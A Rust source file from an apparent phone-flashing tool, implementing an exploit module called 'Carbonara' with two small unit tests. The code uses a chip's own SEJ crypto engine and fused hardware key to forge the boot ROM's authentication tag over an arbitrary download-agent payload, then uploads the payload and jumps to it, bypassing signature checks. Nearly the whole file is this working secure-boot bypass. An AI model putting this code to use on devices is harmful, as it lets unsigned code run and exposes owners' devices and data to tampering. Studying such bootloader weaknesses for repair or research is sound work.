// SPDX-FileCopyrightText: 2025 The flashcore Authors
// SPDX-License-Identifier: GPL-3.0-or-later

//! Carbonara: forge the download-agent auth tag with the device's own
//! SEJ. The BROM checks an AES-CBC tag computed from the fused root key
//! over the DA digest; asking the SEJ to compute exactly that tag makes
//! any payload "signed".

use sha2::{Digest, Sha256};

use crate::engine::sej::{KeyMode, Sej, SejFlavor};
use crate::error::{ExploitError, Result};
use crate::exploit::{ExploitBridge, ExploitCtx, PayloadResult};
use crate::proto::preloader::Preloader;

#[derive(Default)]
pub struct Carbonara {
    flavor: Option<SejFlavor>,
}

impl Carbonara {
    pub fn new(flavor: SejFlavor) -> Self {
        Carbonara {
            flavor: Some(flavor),
        }
    }

    fn forge_tag(
        &self,
        ctx: &mut ExploitCtx<'_>,
        sej_base: u32,
        digest: &[u8; 32],
    ) -> Result<Vec<u8>> {
        let flavor = self.flavor.ok_or(ExploitError::PayloadRejected)?;
        let mut brom = Preloader::new(ctx.transport);
        let mut sej = Sej::new(&mut brom, sej_base, flavor);
        sej.init(KeyMode::HwKey, true, &[0u8; 16])?;
        sej.process(digest)
    }
}

impl ExploitBridge for Carbonara {
    fn name(&self) -> &'static str {
        "carbonara"
    }

    fn prepare(&mut self, ctx: &mut ExploitCtx<'_>) -> Result<()> {
        let chip = ctx.chip()?;
        if chip.sej_base.is_none() {
            return Err(ExploitError::UnsupportedChip(format!(
                "{} has no SEJ",
                chip.name
            ))
            .into());
        }
        ctx.events.debug("carbonara: SEJ reachable, ready to forge");
        Ok(())
    }

    fn run_payload(&mut self, ctx: &mut ExploitCtx<'_>, payload: &[u8]) -> Result<PayloadResult> {
        let chip = ctx.chip()?;
        let sej_base = chip
            .sej_base
            .ok_or_else(|| ExploitError::UnsupportedChip(chip.name.into()))?;

        let digest: [u8; 32] = Sha256::digest(payload).into();
        let tag = self.forge_tag(ctx, sej_base, &digest)?;
        ctx.events
            .info(format!("carbonara: forged {}-byte DA tag", tag.len()));

        let mut signed = payload.to_vec();
        signed.extend_from_slice(&tag);
        let mut brom = Preloader::new(ctx.transport);
        brom.send_da(chip.da_payload_addr, tag.len() as u32, &signed)?;
        brom.jump_da(chip.da_payload_addr)?;
        Ok(PayloadResult {
            bytes: payload.len(),
            jumped: true,
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::chipdb;
    use crate::error::Error;
    use crate::event::Events;
    use crate::transport::testing::ScriptedTransport;

    #[test]
    fn needs_a_sej_block() {
        let mut t = ScriptedTransport::new(vec![]);
        let mut ctx = ExploitCtx {
            transport: &mut t,
            chip: chipdb::by_hw_code(0x6572),
            events: &Events::default(),
        };
        match Carbonara::new(SejFlavor::Modern).prepare(&mut ctx) {
            Err(Error::Exploit(ExploitError::UnsupportedChip(_))) => {}
            other => panic!("unexpected: {other:?}"),
        }
    }

    #[test]
    fn prepare_succeeds_on_sej_chips() {
        let mut t = ScriptedTransport::new(vec![]);
        let mut ctx = ExploitCtx {
            transport: &mut t,
            chip: chipdb::by_hw_code(0x0996),
            events: &Events::default(),
        };
        Carbonara::new(SejFlavor::Modern).prepare(&mut ctx).unwrap();
    }
}
